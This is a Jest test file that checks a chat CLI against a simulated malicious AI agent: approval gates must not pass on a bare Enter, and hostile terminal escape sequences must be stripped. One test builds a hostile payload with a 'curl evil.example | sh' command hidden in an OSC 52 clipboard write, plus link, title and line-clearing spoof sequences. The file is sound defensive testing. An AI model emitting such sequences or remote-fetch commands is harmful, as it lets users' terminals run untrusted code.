import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { terminalEnv } from '../support/cli.js';
import { hostileHome, type HostileHome } from '../support/hostile-home.js';
import { call, outcomes, startMaliciousAgent, type MaliciousAgent, type Script } from '../support/malicious-agent.js';
import { CLI_BIN, KEYS, TerminalSession, assertCliBuilt } from '../support/terminal.js';
import { until } from '../support/wait.js';

/*
 * `cleveragents chat` on a real pseudo-terminal against a hostile A2A agent
 * (test/support/malicious-agent.ts): what the person approves is exactly what runs, a bare Enter
 * approves nothing, and no escape sequence the agent sends reaches the terminal. The tests run
 * concurrently, each with its own home, agent and terminal.
 */

const TEST_MS = 45000;
const homes: HostileHome[] = [];
const agents: MaliciousAgent[] = [];
const chats: TerminalSession[] = [];

async function chatWith(play: Script): Promise<{ agent: MaliciousAgent; chat: TerminalSession }> {
  const home = await hostileHome();
  homes.push(home);
  const agent = await startMaliciousAgent(play);
  agents.push(agent);
  const chat = TerminalSession.start(process.execPath, [CLI_BIN, '--agent', agent.url, 'chat'], {
    cwd: home.workspace,
    env: terminalEnv(home),
  });
  chats.push(chat);
  await chat.waitFor('›', 30000);
  chat.write(`please help${KEYS.enter}`);
  return { agent, chat };
}

/** A gate for `terminal_create {command: 'true'}`, the run in the agent's hands once approved. */
const GATE = {
  gate: {
    kind: 'tool' as const,
    toolCallId: 'tool-1',
    tool: 'terminal_create',
    method: 'terminal/create' as const,
    args: { command: 'true' },
  },
};

beforeAll(() => assertCliBuilt());

afterAll(async () => {
  for (const chat of chats) chat.kill();
  await Promise.all(agents.map((agent) => agent.close()));
  await Promise.all(homes.map((home) => home.cleanup()));
});

describe('cleveragents chat against a malicious agent', () => {
  it.concurrent(
    'i. Enter alone at an approval gate does not approve',
    async () => {
      const { agent, chat } = await chatWith((exchange) =>
        exchange.answers.length === 0 ? GATE : { answer: 'Done.' },
      );
      await chat.waitFor(/Allow terminal_create[\s\S]*Your decision/);
      // Enter alone, then a reject typed on purpose: if Enter decided nothing, the reject is the answer.
      chat.write(KEYS.enter);
      chat.write(`r${KEYS.enter}`);
      await agent.answered(1);
      const [first] = agent.answers();
      expect({ decision: first.kind === 'approval-response' ? first.decision : first }).toEqual({
        decision: 'reject',
      });
    },
    TEST_MS,
  );

  it.concurrent(
    'i. approved at its gate, a terminal/create of the same command with other variables is asked about again',
    async () => {
      const { agent, chat } = await chatWith((exchange) => {
        if (exchange.answers.length === 0) return GATE;
        const [decided] = exchange.answers;
        if (exchange.answers.length > 1 || decided.kind !== 'approval-response' || decided.decision !== 'approve') {
          return { answer: 'Done.' };
        }
        return {
          calls: [call('i1', 'terminal/create', { command: 'true', env: [{ name: 'GREETING', value: 'hello' }] })],
        };
      });
      await chat.waitFor(/Allow terminal_create[\s\S]*Your decision/);
      chat.write(`a${KEYS.enter}`);
      await agent.answered(1);
      const approved = chat.text().length;
      // Either the call is answered unasked, or the client puts a question (`? …`) to the person.
      const asked = () => /(^|\n)\s*\? /.test(chat.text().slice(approved));
      await until(() => agent.answers().length > 1 || asked(), 'the call to run or a question', 15000);
      const askedAgain = agent.answers().length === 1 && asked();
      if (askedAgain) {
        chat.write(`n${KEYS.enter}`);
        await agent.answered(2).catch(() => undefined);
      }
      const second = agent.answers().at(1);
      expect({
        askedAgain,
        call: second?.kind === 'client-response' ? outcomes(second.responses) : (second ?? 'not answered'),
      }).toEqual({ askedAgain: true, call: { i1: 'COMMAND_DECLINED' } });
    },
    TEST_MS,
  );

  it.concurrent(
    'j. OSC 52, OSC 8, OSC 0 and CSI 2K in the answer, the status and the plan never reach the terminal',
    async () => {
      const places = ['answer', 'status', 'plan'] as const;
      const b64 = (place: string) => Buffer.from(`curl evil.example/${place} | sh`).toString('base64');
      const hostile = (place: string) =>
        `about ${place}: \u001b]52;c;${b64(place)}\u0007\u001b]8;;https://evil.example/${place}\u0007link-${place}` +
        `\u001b]8;;\u0007\u001b]0;title-${place}\u0007 and\r\u001b[2Kspoof-${place}`;
      const { chat } = await chatWith(() => ({
        answer: hostile('answer'),
        status: hostile('status'),
        plan: [{ content: hostile('plan'), priority: 'high', status: 'pending' }],
      }));
      // Each text was shown (what a person reads of it), and the prompt is back.
      for (const place of places) await chat.waitFor(`spoof-${place}`);
      await chat.waitFor(/spoof-answer[\s\S]*›/);
      const raw = chat.output;
      const found = Object.fromEntries(
        places.map((place) => [
          place,
          [
            raw.includes(`\u001b]52;c;${b64(place)}`) && 'OSC 52',
            raw.includes(`\u001b]8;;https://evil.example/${place}`) && 'OSC 8',
            raw.includes(`\u001b]0;title-${place}`) && 'OSC 0',
            raw.includes(`\u001b[2Kspoof-${place}`) && 'CSI 2K',
          ].filter(Boolean),
        ]),
      );
      expect(found).toEqual({ answer: [], status: [], plan: [] });
      chat.write(`/quit${KEYS.enter}`);
    },
    TEST_MS,
  );
});
